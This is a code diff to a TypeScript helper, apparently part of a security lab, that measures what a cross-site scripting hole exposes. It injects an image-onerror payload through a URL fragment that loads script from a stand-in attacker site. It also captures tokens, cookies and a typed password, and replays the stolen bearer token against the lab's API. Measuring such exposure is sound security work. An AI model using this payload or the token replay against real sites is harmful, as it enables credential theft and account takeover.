@@ -12,33 +12,28 @@ export async function observeInjection(
 ): Promise<Observation> {
   const page = await openPage(browser, lab, place);
   const { body } = await logIn(page);
-  const credential =
-    body.access_token ?? (await browser.cookies(lab)).find(({ httpOnly }) => httpOnly)?.value;
+  const token = body.access_token;
+  const credential = token ?? (await browser.cookies(lab)).find(({ httpOnly }) => httpOnly)?.value;
   if (!credential) throw new Error('The log-in gave no credential');
 
   // The page's hole: what follows #greeting= becomes part of it, as HTML.
   const markup = `<img src="" onerror="import('${attacker.otherSite}/injected.js')">`;
   await page.goto(`${addressOf(lab, place)}#greeting=${encodeURIComponent(markup)}`);
-  const [read, sentAlong] = await attacker.collect(2);
-  const { readable, me } = JSON.parse(read?.body ?? '');
+  const [toOtherSite, toOtherPort] = await attacker.collect(2);
+  const { readable, me } = JSON.parse(toOtherSite?.body ?? '');
   await page.getByLabel('Password').fill('a new password');
   const [typed] = await attacker.collect(1);
   await page.close();
 
   const text = JSON.stringify(readable);
-  const goesToOtherSite = [text, read?.cookie].some((each) => each?.includes(credential));
+  const holdsIt = (...texts: (string | undefined)[]) => texts.some((each) => each?.includes(credential));
+  const stolen = token ? { authorization: `Bearer ${token}` } : { cookie: toOtherPort?.cookie ?? '' };
   return {
-    isRead: text.includes(credential),
-    goesToOtherSite,
-    goesToOtherPort: [text, sentAlong?.cookie].some((each) => each?.includes(credential)),
-    worksElsewhere: goesToOtherSite && (await opens(lab, place, credential)),
+    isRead: holdsIt(text),
+    goesToOtherSite: holdsIt(text, toOtherSite?.cookie),
+    goesToOtherPort: holdsIt(text, toOtherPort?.cookie),
+    worksElsewhere: (await fetch(`${lab}/api/${place.mode}/me`, { headers: stolen })).ok,
     isUsed: me.username === 'alice',
     isPasswordRead: JSON.parse(typed?.body ?? '').typed === 'a new password',
   };
-}
-
-/** Whether a token that was taken away opens the door, with no browser about. */
-async function opens(lab: string, { mode }: Place, token: string): Promise<boolean> {
-  const answer = await fetch(`${lab}/api/${mode}/me`, { headers: { authorization: `Bearer ${token}` } });
-  return answer.ok;
 }
